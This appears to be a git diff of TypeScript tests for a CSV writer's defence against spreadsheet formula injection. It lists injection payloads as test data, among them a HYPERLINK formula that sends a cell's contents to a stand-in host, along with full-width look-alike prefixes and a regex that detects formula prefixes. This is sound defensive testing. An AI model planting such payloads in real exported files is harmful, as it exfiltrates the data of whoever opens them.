@@ -1,5 +1,6 @@
 import assert from 'node:assert/strict';
 import fc from 'fast-check';
+import Papa from 'papaparse';
 import { Agenda } from '../../../src/core/agenda/agenda';
 import { readTable, writeTable } from '../../../src/core/exchange/csv';
 import type { Table } from '../../../src/core/exchange/csv';
@@ -111,9 +112,52 @@ describe('a table', () => {
     assert.deepEqual(readTable(written).rows.flat(), ['=1', '+1', '-1', '@x', '1', "'x", '1']);
   });
 
+  /** What a spreadsheet makes of the text where it parts cells otherwise, or knows no quotes. */
+  const PARTED: readonly (readonly [how: string, cells: (written: string) => readonly string[]])[] = [
+    ['semicolons', (written) => Papa.parse<string[]>(written, { delimiter: ';' }).data.flat()],
+    ['tabs', (written) => Papa.parse<string[]>(written, { delimiter: '\t' }).data.flat()],
+    ['semicolons, with no quotes', (written) => written.split(/[;\r\n]/)],
+    ['tabs, with no quotes', (written) => written.split(/[\t\r\n]/)],
+    ['commas', (written) => Papa.parse<string[]>(written, { delimiter: ',' }).data.flat()],
+  ];
+  const BEGINS_FORMULA = /^[\s"]*[=+\-@＝＋－＠﹦﹢﹣﹫]/;
+
+  for (const [how, cellsOf] of PARTED) {
+    it(`never holds a formula where cells are parted by ${how}`, () => {
+      const cells = [
+        ...[
+          'Acme;=HYPERLINK("http://example.invalid/?"&A1)',
+          '＝1+1',
+          '＠x',
+          '－1',
+          '＋1',
+          '﹦1',
+          'a;@x',
+          'a;\t=1',
+        ],
+        ...['a\t=1', 'a\n=1', 'a\r=1', 'a; =1', 'a;\u00a0+1', 'a;;-1', "a;'=1", '"";=1', 'a;"=1'],
+      ];
+      for (const cell of cells) {
+        const written = writeTable({
+          header: ['x', 'y'],
+          rows: [
+            ['b', cell],
+            [cell, 'b'],
+          ],
+        }).slice(1);
+        for (const found of cellsOf(written))
+          assert.doesNotMatch(found, BEGINS_FORMULA, JSON.stringify(written));
+        assert.deepEqual(readTable(written).rows, [
+          ['b', cell.trim()],
+          [cell.trim(), 'b'],
+        ]);
+      }
+    });
+  }
+
   it('of any cells is read as it was written', () => {
     const cell = fc
-      .string({ unit: fc.constantFrom(...Array.from('a=+-@\'",;\n|ü ')), maxLength: 6 })
+      .string({ unit: fc.constantFrom(...Array.from('a=+-@＝\'",;\n\t|ü ')), maxLength: 6 })
       .map((text) => text.trim());
     fc.assert(
       fc.property(fc.array(fc.tuple(cell, cell), { minLength: 1 }), (rows) => {
